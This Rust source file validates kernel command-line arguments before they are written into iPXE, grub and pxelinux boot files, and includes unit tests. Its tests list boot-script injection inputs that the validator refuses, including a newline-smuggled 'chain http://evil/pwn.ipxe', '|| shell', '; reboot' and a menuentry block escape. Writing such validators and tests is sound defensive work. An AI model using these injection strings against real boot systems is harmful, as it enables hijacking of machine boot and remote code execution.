//! [`KernelArgs`]: kernel command-line arguments that may be written into a
//! boot file (an iPXE script, a pxelinux or grub config, an ISO's
//! isolinux/grub config) without changing what the file does.
//!
//! Invariant: a `KernelArgs` is a list of words, each made only of
//! printable ASCII other than the characters that any of those formats
//! treats as syntax (`$` expansion, `|`/`&` command chaining, `;`, `{`/`}`
//! blocks, quotes, `\` escapes, `#` comments); so joined with spaces it is
//! one line that adds no directive, command or variable to any of them.
//! Operators' values are checked when they are set (the API, the
//! configuration) and again when a file is written.

use std::fmt;

/// Characters refused in an argument, with why each is dangerous.
pub const REFUSED: &str = "$|&;{}'\"`\\#";

/// Arguments checked to be safe in every boot file format Ferric writes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct KernelArgs(Vec<String>);

/// Why a text cannot be kernel arguments.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum KernelArgsError {
    #[error("it contains the control character {0:?}")]
    Control(char),
    #[error("it contains {0:?}, which boot file formats treat as syntax (refused: {REFUSED})")]
    Syntax(char),
    #[error("it contains the non-ASCII character {0:?}")]
    NonAscii(char),
}

impl KernelArgs {
    /// Space-separated words (spaces only: a tab, a newline or any other
    /// control character is refused, as is syntax of any boot file format).
    ///
    /// # Errors
    /// The first character that is not allowed.
    pub fn parse(text: &str) -> Result<KernelArgs, KernelArgsError> {
        for c in text.chars() {
            if c.is_control() {
                return Err(KernelArgsError::Control(c));
            }
            if !c.is_ascii() {
                return Err(KernelArgsError::NonAscii(c));
            }
            if REFUSED.contains(c) {
                return Err(KernelArgsError::Syntax(c));
            }
        }
        Ok(KernelArgs(
            text.split(' ')
                .filter(|w| !w.is_empty())
                .map(str::to_owned)
                .collect(),
        ))
    }

    /// These arguments followed by `more`.
    #[must_use]
    pub fn and(mut self, more: &KernelArgs) -> KernelArgs {
        self.0.extend(more.0.iter().cloned());
        self
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn words(&self) -> &[String] {
        &self.0
    }
}

impl fmt::Display for KernelArgs {
    /// The words joined by single spaces.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0.join(" "))
    }
}

/// The 400 text for an operator's value at `field` (e.g.
/// `instance_info/ramdisk_kernel_arguments`) that is not kernel arguments.
pub fn refusal(field: &str, value: &str, error: &KernelArgsError) -> String {
    format!(
        "Invalid kernel arguments in {field}: {value:?} cannot be written into a boot file: {error}. Kernel arguments are words of printable ASCII separated by spaces."
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_split_on_spaces_and_joined_by_one() {
        let args =
            KernelArgs::parse("  console=ttyS0,115200n8  ipa-debug=1 root=/dev/ram0 ").unwrap();
        assert_eq!(
            args.words(),
            ["console=ttyS0,115200n8", "ipa-debug=1", "root=/dev/ram0"]
        );
        assert_eq!(
            args.to_string(),
            "console=ttyS0,115200n8 ipa-debug=1 root=/dev/ram0"
        );
        assert!(KernelArgs::parse("").unwrap().is_empty());
    }

    #[test]
    fn lines_chains_expansions_and_blocks_are_refused() {
        for (text, expected) in [
            (
                "a\nchain http://evil/pwn.ipxe",
                KernelArgsError::Control('\n'),
            ),
            ("a\r\nshell", KernelArgsError::Control('\r')),
            ("a\tb", KernelArgsError::Control('\t')),
            ("x || shell", KernelArgsError::Syntax('|')),
            ("x && shell", KernelArgsError::Syntax('&')),
            ("${net0/ip}", KernelArgsError::Syntax('$')),
            ("a; reboot", KernelArgsError::Syntax(';')),
            ("} menuentry evil {", KernelArgsError::Syntax('}')),
            ("init=\"/bin/sh\"", KernelArgsError::Syntax('"')),
            ("a # comment", KernelArgsError::Syntax('#')),
            ("é", KernelArgsError::NonAscii('é')),
        ] {
            assert_eq!(KernelArgs::parse(text), Err(expected), "{text:?}");
        }
    }

    #[test]
    fn a_refusal_names_the_field_and_the_character() {
        let error = KernelArgs::parse("a\nb").unwrap_err();
        let text = refusal("driver_info/kernel_append_params", "a\nb", &error);
        assert!(text.starts_with(
            "Invalid kernel arguments in driver_info/kernel_append_params: \"a\\nb\""
        ));
        assert!(text.contains("control character '\\n'"), "{text}");
    }
}
